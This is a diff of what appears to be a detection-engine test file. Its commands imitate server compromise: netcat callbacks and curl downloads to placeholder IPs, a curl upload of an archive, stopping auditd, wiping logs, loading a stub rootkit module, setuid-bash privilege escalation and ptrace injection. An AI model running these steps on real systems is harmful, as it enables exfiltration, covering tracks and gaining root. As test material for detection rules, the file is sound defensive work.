@@ -1,8 +1,6 @@
 ## Shell of a server connects out
-#also Download tool started by a server
 #also Shell started by a network server
-#also Transfer tool given a bare address
-server 'curl -s http://203.0.113.9/'
+server 'busybox nc -w 1 203.0.113.9 8443'
 ## File written by a server, then run
 #also Program or script of a shared folder changed by an untrusted program
 #also Shell started by a network server
@@ -11,7 +9,6 @@ server 'cp /bin/true /srv/up/x'; /srv/up/x
 ## Server's command looks around, then downloads
 #also Download tool started by a server
 #also Identity asked from a service's shell
-#also Shell of a server connects out
 #also Shell started by a network server
 server 'id; uname -a; curl -s http://10.9.8.7/'
 ## Script put into a web folder, then a shell of the server
@@ -45,7 +42,6 @@ cp /bin/bash /var/tmp/b; chmod 4755 /var/tmp/b; setpriv --reuid 1000 --clear-gro
 ## Raised to root, then a log emptied
 #also Log of a service emptied or removed by hand
 #also Set-user-id program raised privileges to root
-#also Shell with raised privileges
 #setup mkdir /opt/y; cp /bin/bash /opt/y/bash; chmod 4755 /opt/y/bash; mkdir -p /var/log/nginx
 setpriv --reuid 1000 --clear-groups /opt/y/bash -p -c ': > /var/log/nginx/access.log; true'
 ## Way to root looked for in all directions
@@ -66,20 +62,10 @@ tar cf /tmp/x.tar /etc/hosts; curl -s -T /tmp/x.tar http://10.9.8.7/
 ## Guard stopped, then the kernel changed or a log emptied
 #also Log files cleared
 #also Security tool stopped
-#also Security tools looked for
 systemctl stop auditd; sh -c ': > /var/log/auth.log'
 ## Module loaded, then its file removed
 #also Kernel module loaded from a file
 : > /tmp/rk.ko; busybox insmod /tmp/rk.ko; rm -f /tmp/rk.ko
-## Reverse shell given a terminal
-#also Command of a reverse shell
-#also Connection to a port of mining pools
-#also Input and output tied to a connection with another machine
-#also Reverse shell
-#also Reverse shell by bash's own network
-#also Shell connects to the network
-#also Terminal made for a shell
-remote "python3 -c 'import pty; pty.spawn(\"/bin/true\")'"
 ## Downloaded program connects to a mining port
 #also Connection to a port of mining pools
 #also Downloaded file executed
@@ -115,16 +101,6 @@ if child == 0:
   time.sleep(1); socket.socket().connect_ex(("203.0.113.9", 443)); os._exit(0)
 ptrace = ctypes.CDLL(None).ptrace; ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
 ptrace(16, child, None, None); os.waitpid(child, 0); ptrace(5, child, ctypes.addressof(word), 1); ptrace(17, child, None, None); os.waitpid(child, 0)'
-## Root refused, then had
-#also Privileges of root refused
-#also Process became root without a set-user-id program
-setpriv --reuid 1000 --clear-groups --inh-caps +setuid --ambient-caps +setuid python3 -c '
-import ctypes, os
-libc = ctypes.CDLL(None); head = (ctypes.c_uint * 2)(0x20080522, 0); sets = (ctypes.c_uint * 6)()
-libc.capget(head, sets); sets[0] &= ~128; libc.capset(head, sets)
-try: os.setuid(0)
-except PermissionError: pass
-sets[0] |= 128; libc.capset(head, sets); os.setuid(0)'
 ## Logins guessed, then one that worked
 #also Login from the internet with a password
 #also Login that checks nobody's identity
